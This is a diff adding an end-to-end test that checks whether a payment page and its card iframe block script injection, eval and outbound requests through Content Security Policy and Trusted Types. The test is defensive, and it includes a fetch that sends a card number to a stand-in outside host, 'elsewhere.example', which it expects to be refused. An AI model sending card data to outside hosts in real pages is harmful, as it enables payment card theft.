@@ -179,3 +179,36 @@ test(
     expect(asked.filter((one) => one.includes('auth'))).toEqual([]);
   },
 );
+
+test(
+  'No text becomes markup or a script in pages and frames for customers, and what goes elsewhere is refused',
+  runs,
+  async ({ customer, domains, link, seller, shopPage }) => {
+    await domains(['127.0.0.1']);
+    const payment = await link();
+    const { page: paid } = await customer(payment.payment_link.link);
+    const { page } = await shopPage();
+    await mount(page, seller.publishableKey, payment.client_secret, { payment: '#form' });
+    await page.frameLocator('iframe').getByLabel('Card number').waitFor();
+    const attempts = `(async () => {
+      const attempt = (act) => { try { act(); return 'done'; } catch ({ name }) { return name; } };
+      const refused = new Promise((resolve) =>
+        document.addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) =>
+          effectiveDirective === 'connect-src' && resolve([effectiveDirective, blockedURI])));
+      const found = [
+        attempt(() => { document.createElement('div').innerHTML = '<b>x</b>'; }),
+        attempt(() => { document.createElement('script').src = '/x.js'; }),
+        attempt(() => { document.createElement('iframe').srcdoc = 'x'; }),
+        attempt(() => { trustedTypes.createPolicy('mine', { createHTML: (text) => text }); }),
+        attempt(() => { eval('1'); }),
+      ];
+      fetch('https://elsewhere.example/?pan=4242').catch(() => undefined);
+      return [...found, ...(await refused)];
+    })()`;
+    const expected = ['TypeError', 'TypeError', 'TypeError', 'TypeError', 'EvalError'];
+    for (const target of [paid, page.frames().at(-1)!]) {
+      const found = await target.evaluate(attempts);
+      expect(found).toEqual([...expected, 'connect-src', 'https://elsewhere.example/?pan=4242']);
+    }
+  },
+);
